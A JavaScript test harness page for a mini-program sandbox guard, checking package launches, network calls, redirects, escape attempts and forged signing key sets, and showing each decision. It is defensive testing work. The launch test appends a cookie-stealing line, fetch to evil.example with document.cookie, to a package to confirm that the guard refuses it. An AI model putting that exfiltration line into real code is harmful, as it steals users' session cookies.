// Wires the harness: guard serve → the bridge's sync → guard → base library
// ← sample mini programs, and shows each call's outcome, who decided it, the
// server's own request counts, live rows that follow every policy change,
// the violations the page reported, and a form to try any call with its
// explanation.
//
// The page plays the base library and its native side; the mini programs
// run in realms of their own (js/harness/realm.mjs: a worker each, with no
// network of its own), whose only way out is the guarded `wx`.
//
// The page's guard is made by `sync` from the superapp's configuration file
// (/harness-config) and its root public keys (contract v3 §2.1): it takes
// signing keys only from a key set a root signed, so neither guard serve's
// transport nor anything in the page can choose them, and nothing in the
// page can sign a bundle. The sync's state (key set, bundle, floors) is in
// the page's localStorage, which no worker can reach. Before the mini
// program's code runs, the base library fetches its released package from
// guard serve, asks `launch` with the package's version and SHA-256, and
// hands exactly the bytes it hashed to the mini program's realm.
import { sync, createGuard } from '/src/index.js';
import init, { WasmGuard } from '/pkg-tools/guard_wasm.js';
import { unzipSync } from '/fflate/browser.js';
import { createBaseLibrary, webViewElement } from './base-library.mjs';
import { startRealm } from './realm.mjs';

const APP = 'mp_shop';
/** The version mp_shop's code package declares (its manifest, in a real base library). */
const PACKAGE_VERSION = '1.0.0';
const PACKAGE_ENTRY = 'mini-program.cjs';
/** The other apps' code (js/harness/other-apps.cjs), each app in its own realm. */
const OTHER_APPS_URL = '/harness/other-apps.cjs';
/** Where the sync keeps its state (a prefix of the page's localStorage). */
const SYNC_PREFIX = 'miniprogram-guard/sync/';
/** Live rows: re-run on every policy change the sync brings. */
const LIVE = [
  ['getLocation (restricted; approved by the seed)', 'api', 'getLocation'],
  ['chooseImage (restricted; never approved)', 'api', 'chooseImage'],
  ['request https://evil.example/collect', 'request', 'https://evil.example/collect'],
  ['request https://api.shop.example/v1/items', 'request', 'https://api.shop.example/v1/items'],
];
const KIND_METHOD = { request: 'checkRequest', upload: 'checkUpload', download: 'checkDownload', socket: 'checkSocket', webview: 'checkWebview' };
/** Hosts no call may reach: shown with the server's own hit counts. */
const WATCHED = [
  ['evil.example', 'another domain (direct, by redirect, web-view)'],
  ['admin.internal.superapp.example', 'internal host, reached only by redirect'],
  ['billing.internal.superapp.example', 'internal host (blocked wildcard)'],
  ['api.superapp.example', 'the superapp\'s backend (blocked)'],
  ['api.gone.example', 'the removed app\'s host'],
];
const CHAIN11_END = 'api.shop.example/chain/11/0';

const $ = (id) => document.getElementById(id);
const cell = (tr, text, cls) => { const td = document.createElement('td'); td.textContent = text; if (cls) td.className = cls; tr.append(td); return td; };
const section = (table, title) => {
  const tr = document.createElement('tr');
  tr.className = 'section';
  const td = cell(tr, title);
  td.colSpan = 5;
  $(table).append(tr);
};

const results = [];
/** One visible row: what was done, by which app, the decision, the errMsg, and who decided. */
function show(r) {
  results.push(r);
  const tr = document.createElement('tr');
  tr.className = r.ok ? 'ok' : 'denied';
  tr.dataset.label = r.label;
  const what = cell(tr, r.label);
  if (r.url) { const u = document.createElement('div'); u.className = 'url'; u.textContent = r.url; what.append(u); }
  cell(tr, r.app, 'app');
  cell(tr, r.ok ? 'allowed' : `denied: ${r.code ?? '?'}`, 'decision');
  cell(tr, r.errMsg, 'msg');
  cell(tr, r.by, 'by');
  $('calls').append(tr);
}

const hex = (buf) => [...new Uint8Array(buf)].map((b) => b.toString(16).padStart(2, '0')).join('');
const sha256Hex = async (bytes) => hex(await crypto.subtle.digest('SHA-256', bytes));

async function refreshStats() {
  const s = await (await fetch('/stats')).json();
  $('stats').textContent = '';
  // Redirect chains are many paths: one line per chain.
  const grouped = new Map();
  for (const [k, n] of Object.entries(s.net)) {
    const chain = /^(.*\/chain\/\d+\/)\d+$/.exec(k);
    const key = chain ? `${chain[1]}*` : k;
    const g = grouped.get(key) ?? { n: 0, paths: 0 };
    g.n += n; g.paths++;
    grouped.set(key, g);
  }
  for (const [k, g] of grouped) {
    const tr = document.createElement('tr');
    cell(tr, `https://${k}${g.paths > 1 ? ` (${g.paths} paths)` : ''}`);
    cell(tr, String(g.n), 'num');
    $('stats').append(tr);
  }
  for (const [k, n] of Object.entries(s.web)) {
    const tr = document.createElement('tr');
    cell(tr, `web-view https://${k}`);
    cell(tr, String(n), 'num');
    $('stats').append(tr);
  }
  $('watched').textContent = '';
  const watch = [...WATCHED.map(([h, why]) => [h, why, s.hosts[h] ?? 0]), [`${CHAIN11_END}`, 'end of the 11-hop chain', s.net[CHAIN11_END] ?? 0]];
  for (const [h, why, n] of watch) {
    const tr = document.createElement('tr');
    tr.className = n === 0 ? 'ok' : 'denied';
    tr.dataset.host = h;
    cell(tr, `https://${h}`);
    cell(tr, why, 'why');
    cell(tr, String(n), 'num');
    $('watched').append(tr);
  }
  return s;
}

/**
 * Runs entry `index` of the list `list` in `realm`; answers the row: the
 * decision, code and who decided, from what the page saw of the step's last
 * call (the mini program's own report only when it made no call).
 */
async function runStep(label, app, realm, list, index, ctx) {
  const before = ctx.violations.length;
  ctx.native = null;
  const { errMsg: claimed, calls } = await realm.run(list, index);
  const last = calls[calls.length - 1];
  const errMsg = last?.errMsg ?? claimed;
  const ok = last?.ok ?? (!String(errMsg).includes(':fail') && errMsg !== '(no callback)');
  const pageViolation = ctx.violations.slice(before).find((v) => !v.reported);
  const nat = ctx.native;
  let code = null;
  let by = '';
  let hop = null;
  if (!ok && pageViolation) {
    code = pageViolation.code;
    by = 'bridge, in the page: never sent';
  } else if (!ok && nat && !nat.ok) {
    code = nat.code;
    hop = nat.hop;
    if (nat.hop > 0) {
      const lastHop = nat.hops[nat.hops.length - 1];
      by = `native layer, hop ${nat.hop} → ${lastHop.location}: never connected`;
    } else {
      by = 'native layer, first URL';
    }
  } else if (ok && nat) {
    const n = nat.hops?.length ?? 0;
    by = n > 0 ? `native layer: ${n} hop${n === 1 ? '' : 's'}, each checked, then 200` : 'bridge, then native layer';
  } else if (ok) {
    by = 'bridge';
  } else if (last === undefined) {
    by = 'the mini program\'s realm (no call reached the page)';
    code = 'parameter error';
  } else if (last.code !== undefined) {
    by = 'the page (a message from the realm)';
    code = last.code;
  }
  const hops = nat?.hops?.length ?? 0;
  const r = { label, app, errMsg, ok, code, by, hop, hops, url: hops > 0 ? nat.url : undefined };
  show(r);
  return r;
}

/** A JWS part (base64url JSON) as its value. */
const b64json = (part) => JSON.parse(new TextDecoder().decode(Uint8Array.from(atob(part.replace(/-/g, '+').replace(/_/g, '/')), (c) => c.charCodeAt(0))));
const b64urlBytes = (bytes) => btoa(String.fromCharCode(...bytes)).replace(/\+/g, '-').replace(/\//g, '_').replace(/=+$/, '');
/** A value as a JWS part. */
const b64url = (value) => b64urlBytes(new TextEncoder().encode(JSON.stringify(value)));

/** One row of the key-set table. */
function keysetRow(id, label, ok, decision, text) {
  const tr = document.createElement('tr');
  tr.className = ok ? 'ok' : 'denied';
  tr.dataset.keyset = id;
  cell(tr, label);
  cell(tr, decision, 'decision');
  cell(tr, text, 'msg');
  $('keysets').append(tr);
}

/**
 * The key sets the page's guard held, in order: the first one, then each
 * rotation (a new key set version, or a bundle signed by another key of it),
 * as the sync took them from guard serve. Each entry is what was in force.
 */
const keysetHistory = [];
function showKeysets(synced) {
  const { keys, bundle } = synced.current();
  if (keys === null || bundle === null) return;
  const [head, body] = keys.split('.').slice(0, 2).map(b64json);
  const signer = b64json(bundle.split('.')[0]).kid;
  const policy = b64json(bundle.split('.')[1]).version;
  const last = keysetHistory[keysetHistory.length - 1];
  if (last !== undefined && last.version === body.version && last.signer === signer) return;
  const entry = { version: body.version, root: head.kid, kids: body.keys.map((k) => k.kid), signer, policy };
  keysetHistory.push(entry);
  const text = `key set version ${entry.version} signed by root ${entry.root}, lists [${entry.kids.join(', ')}]; bundle version ${policy} signed by ${signer}`;
  if (last === undefined) keysetRow('in-force', 'the key set a root signed (roots from guard serve\'s config.json)', true, 'in force', text);
  else if (last.version !== entry.version) keysetRow(`rotation-${keysetHistory.length - 1}`, `rotation: key set ${last.version} → ${entry.version}, published before its new key signs`, true, 'in force', text);
  else keysetRow(`rotation-${keysetHistory.length - 1}`, `rotation: the bundle is now signed by ${signer}, a key of key set ${entry.version}`, true, 'in force', text);
}

/**
 * Key sets no root signed, each loaded into a fresh guard made from the same
 * roots: the key set in force with its version raised (the root's signature
 * kept), and one signed by a key the page made under the root's kid. Both
 * are refused and change nothing.
 */
async function showForgedKeysets(config, keys) {
  const [head, body, signature] = keys.split('.');
  const payload = b64json(body);
  const tampered = `${head}.${b64url({ ...payload, version: payload.version + 1 })}.${signature}`;
  // The forger's key: the page's own, under the root's kid and header.
  const pair = await crypto.subtle.generateKey({ name: 'Ed25519' }, false, ['sign', 'verify']);
  const input = `${head}.${b64url({ ...payload, version: payload.version + 1 })}`;
  const sig = new Uint8Array(await crypto.subtle.sign({ name: 'Ed25519' }, pair.privateKey, new TextEncoder().encode(input)));
  const forged = `${input}.${b64urlBytes(sig)}`;
  const out = {};
  for (const [id, label, jws] of [
    ['genuine', 'the key set in force, loaded again into a fresh guard from the roots', keys],
    ['tampered', 'a tampered key set: version raised, the root\'s signature kept', tampered],
    ['forged', 'a key set signed by a key that is no root (the root\'s kid, another key)', forged],
  ]) {
    const g = await createGuard({ roots: config.roots, superappId: config.superapp_id });
    const r = g.loadKeys(jws);
    out[id] = { code: r.code, message: r.message };
    if (id !== 'genuine') keysetRow(id, label, false, `refused: ${r.code}`, r.message);
    else if (r.code !== 'ok') keysetRow(id, label, false, `refused: ${r.code}`, r.message);
  }
  return out;
}

/**
 * Runs each of the mini program's attempts to get past `wx` (the package's
 * ESCAPES) in its realm: every one must fail there, and the page shows how.
 */
async function runEscapes(realm, lists) {
  const out = [];
  for (const [index, [label]] of (lists.ESCAPES ?? []).entries()) {
    const { errMsg, calls } = await realm.run('ESCAPES', index);
    const reached = !String(errMsg).includes(':fail');
    const r = { label: `escape: ${label}`, app: APP, errMsg, ok: reached, code: reached ? 'ESCAPED' : 'realm', by: calls.length === 0 ? 'the realm: no such API, or refused by its CSP' : 'wx', escape: true };
    out.push(r);
    show(r);
  }
  return out;
}

/** The sync's entries in the page's localStorage, as text. */
function syncState() {
  const out = {};
  for (let i = 0; i < localStorage.length; i++) {
    const k = localStorage.key(i);
    if (k.startsWith(SYNC_PREFIX)) out[k] = localStorage.getItem(k);
  }
  return out;
}

/**
 * The sync's storage: the page's localStorage, the base library's own store.
 * Mini program code runs in workers, which have no localStorage, and its
 * `wx.setStorage*` is the base library's per-app store, never this one.
 */
const storage = {
  get: async (k) => localStorage.getItem(k),
  set: async (k, v) => { localStorage.setItem(k, v); },
};

/** The bridge's decision for one call of any kind (tcp/udp: `host:port`). */
function decide(guard, app, kind, subject) {
  if (kind === 'api') return guard.checkApi(app, subject);
  if (kind === 'tcp' || kind === 'udp') {
    const at = subject.lastIndexOf(':');
    const host = at < 0 ? subject : subject.slice(0, at);
    const port = at < 0 ? 0 : Number(subject.slice(at + 1));
    return kind === 'tcp' ? guard.checkTcp(app, host, port) : guard.checkUdp(app, host, port);
  }
  return guard[KIND_METHOD[kind]](app, subject);
}

function showLive(synced) {
  const st = synced.status();
  $('sync').textContent = `policy version ${st.version} (ETag ${st.etag}) from guard serve; ${st.longPoll ? 'long-poll: the server holds each request until the policy changes' : 'the server did not hold the request: polling every second'}; ${st.online ? 'online' : `offline (${st.lastError})`}${st.lastRefusal ? `; refused: ${st.lastRefusal}` : ''}`;
  $('live').textContent = '';
  for (const [label, kind, subject] of LIVE) {
    const d = decide(synced.guard, APP, kind, subject);
    const tr = document.createElement('tr');
    tr.className = d.allow ? 'ok' : 'denied';
    tr.dataset.live = subject;
    cell(tr, label);
    cell(tr, d.allow ? 'allowed' : `denied: ${d.code}`, 'decision');
    cell(tr, d.message, 'msg');
    $('live').append(tr);
  }
}

/** "Try a call": the bridge's decision and guard-core's explanation (WasmGuard.explain over the same roots, key set and bundle). */
function tryCall(synced, config) {
  const app = $('try-app').value;
  const kind = $('try-kind').value;
  const subject = $('try-subject').value;
  const d = decide(synced.guard, app, kind, subject);
  const { keys, bundle } = synced.current();
  let explanation = null;
  if (keys !== null && bundle !== null) {
    const g = WasmGuard.fromConfig(JSON.stringify({ roots: config.roots, superapp_id: config.superapp_id }));
    g.loadKeys(keys, Date.now() / 1000);
    g.load(bundle, Date.now() / 1000);
    explanation = g.explain(app, kind, subject, Date.now() / 1000);
    g.free();
  }
  $('try-decision').textContent = `${d.allow ? 'allowed' : `denied: ${d.code}`} — ${d.message}${d.href ? ` (forwarded as ${d.href})` : ''}`;
  $('try-decision').className = d.allow ? 'ok' : 'denied';
  $('try-why').textContent = explanation === null ? 'no policy in force' : `${explanation.rule}: ${explanation.reason}${explanation.entry ? ` [${explanation.entry}]` : ''}`;
  return { decision: d, explanation };
}

/** Sends the page's reports (as on going to the background) and shows what guard serve recorded. */
async function reportAndShow(synced) {
  const sent = await synced.background();
  const v = await (await fetch(`/violations?app=${APP}`)).json();
  $('violations').textContent = '';
  const tr0 = document.createElement('tr');
  cell(tr0, `reports sent by the page: ${sent}`);
  $('violations').append(tr0);
  if (!v.available) {
    const tr = document.createElement('tr');
    cell(tr, v.error ?? `guard serve answered ${v.status}`);
    $('violations').append(tr);
    return { sent, violations: v };
  }
  const rows = JSON.stringify(v.body);
  const tr = document.createElement('tr');
  tr.dataset.violations = 'true';
  cell(tr, rows.length > 2000 ? `${rows.slice(0, 2000)}…` : rows, 'msg');
  $('violations').append(tr);
  return { sent, violations: v };
}

async function main() {
  await init();
  const config = await (await fetch('/harness-config')).json();
  // The roots come with the configuration file the superapp's native side
  // ships (guard serve's config.json), never from the mini program's realm.
  const synced = await sync({ config, roots: config.roots, storage, storagePrefix: SYNC_PREFIX, intervalSeconds: 1 });
  const guard = synced.guard;
  const { bundle, keys } = synced.current();
  if (bundle === null) throw new Error(`no policy from guard serve: ${JSON.stringify(synced.status())}`);
  const loaded = { code: 'ok', message: '' };
  const header = b64json(bundle.split('.')[0]);
  const policy = b64json(bundle.split('.')[1]);
  const keyset = b64json(keys.split('.')[1]);
  const keysetHeader = b64json(keys.split('.')[0]);
  $('policy').textContent = `policy: schema ${policy.schema}, version ${policy.version}, alg ${header.alg}, kid ${header.kid}; `
    + `key set version ${keyset.version} (kids ${keyset.keys.map((k) => k.kid).join(', ')}) signed by root ${keysetHeader.kid}; `
    + `page guard (the superapp's roots only, no secret), synced by the bridge's sync; `
    + `blocked_hosts ${JSON.stringify(policy.blocked_hosts)}; removed: ${policy.apps.filter((a) => a.removed).map((a) => a.app_id).join(', ')}`;
  showLive(synced);
  showKeysets(synced);
  synced.onChange(() => { showLive(synced); showKeysets(synced); });
  synced.onStatus(() => showLive(synced));
  // A rotation's new key set can come without a new bundle: look each second too.
  setInterval(() => showKeysets(synced), 1000);
  const forgedKeysets = await showForgedKeysets(config, keys);
  $('try-go').onclick = () => { window.__harness.tried = tryCall(synced, config); };
  $('report-go').onclick = () => { reportAndShow(synced).then((r) => { window.__harness.reported = r; }); };
  const ctx = { violations: [], native: null };
  guard.onViolation((v) => ctx.violations.push(v));
  const baseLibrary = (appId) => createBaseLibrary((m) => console.log(m), { appId, onNative: (n) => { ctx.native = n; } });
  const stateBefore = syncState();

  // Launch: the base library asks before it runs a code package (contract v2 §3.5).
  section('calls', 'Launch: the base library checks the code package (fetched from guard serve) before running it');
  const pkg = new Uint8Array(await (await fetch(config.package_url_template.replace('{app_id}', APP))).arrayBuffer());
  const tampered = new Uint8Array([...pkg, ...new TextEncoder().encode('\n;fetch("https://evil.example/?c="+document.cookie);\n')]);
  const launches = [
    [`launch ${APP} 1.0.0, the released package`, PACKAGE_VERSION, pkg],
    [`launch ${APP} 1.0.0, a package with one extra line`, PACKAGE_VERSION, tampered],
    [`launch ${APP} 1.1.0, a version never released`, '1.1.0', pkg],
  ];
  let launchOk = false;
  for (const [label, version, bytes] of launches) {
    const sha = await sha256Hex(bytes);
    const d = guard.checkLaunch(APP, { version, packageSha256: sha });
    show({ label, app: APP, errMsg: d.message, ok: d.allow, code: d.code, by: `bridge; package sha256 ${sha.slice(0, 16)}…`, launch: { version, sha } });
    if (bytes === pkg && version === PACKAGE_VERSION && d.allow) launchOk = true;
  }
  if (!launchOk) throw new Error('the released package was not allowed to launch');
  // Run exactly the bytes that were hashed and allowed (the zip's one entry),
  // in the app's own realm, whose only way out is the guarded `wx`.
  const code = unzipSync(pkg)[PACKAGE_ENTRY];
  const realm = await startRealm({ appId: APP, wx: guard.wrap(baseLibrary(APP), { appId: APP }), code });
  const { lists } = realm;
  section('calls', `${APP} calls: from its realm (a worker without network) through the guarded wx, checked by the bridge in the page`);
  for (const [index, [label]] of lists.STEPS.entries()) await runStep(label, APP, realm, 'STEPS', index, ctx);
  section('calls', 'Redirects: followed and checked hop by hop by the base library\'s native layer (server process, its own wasm guard)');
  for (const [index, [label]] of lists.REDIRECT_STEPS.entries()) await runStep(label, APP, realm, 'REDIRECT_STEPS', index, ctx);
  section('calls', `${APP} tries to get past wx: the realm's own network and storage (each must fail)`);
  const escapes = await runEscapes(realm, lists);
  section('calls', `${APP} forges messages to the page past its realm's wx (each must be refused)`);
  for (const [index, [label]] of lists.FORGED.entries()) await runStep(label, APP, realm, 'FORGED', index, ctx);
  section('calls', 'Other apps: switches off (mp_open), removed (mp_gone), each in its own realm');
  const otherCode = new Uint8Array(await (await fetch(OTHER_APPS_URL)).arrayBuffer());
  const realms = {};
  let otherLists = null;
  for (const app of ['mp_open', 'mp_gone']) {
    realms[app] = await startRealm({ appId: app, wx: guard.wrap(baseLibrary(app), { appId: app }), code: otherCode });
    otherLists = realms[app].lists;
  }
  for (const [index, [app, label]] of otherLists.OTHER_APP_STEPS.entries()) await runStep(label, app, realms[app], 'OTHER_APP_STEPS', index, ctx);

  section('calls', 'web-view');
  const view = guard.webView(APP, { element: webViewElement($('webview')) });
  for (const [label, url] of lists.WEBVIEW_STEPS) {
    const d = view.navigate(url);
    show({ label, app: APP, errMsg: d.message, ok: d.allow, code: d.code, by: 'bridge, in the page' });
  }
  await new Promise((r) => { $('webview').onload = r; setTimeout(r, 2000); });

  // The sync's state after all the mini programs' code ran: what the sync wrote, nothing else.
  const stateAfter = syncState();
  const planted = Object.values(stateAfter).some((v) => v.includes('planted'));
  show({ label: 'the sync\'s state (the page\'s localStorage) after the mini programs ran', app: APP, errMsg: planted ? 'planted by mini program code' : `unchanged by mini program code (${Object.keys(stateAfter).length} entries)`, ok: !planted, code: planted ? 'PLANTED' : null, by: 'the page' });

  const stats = await refreshStats();
  $('counters').textContent = JSON.stringify(guard.counters());
  const reported = await reportAndShow(synced);
  window.__harness = {
    done: true, load: loaded, results, violations: ctx.violations.map((v) => ({ ...v })), stats, counters: guard.counters(),
    keys, reported, status: () => synced.status(), current: () => synced.current(),
    keysets: () => keysetHistory.map((e) => ({ ...e })), forgedKeysets,
    escapes, syncState: { before: stateBefore, after: stateAfter }, realmCalls: realm.calls,
    crossOriginIsolated: self.crossOriginIsolated,
    decide: (app, kind, subject) => decide(guard, app, kind, subject),
    report: () => reportAndShow(synced),
  };
  document.body.dataset.done = 'true';
}

main().catch((e) => {
  $('policy').textContent = `harness error: ${e.message}`;
  window.__harness = { done: true, error: String(e.stack ?? e) };
  document.body.dataset.done = 'true';
});
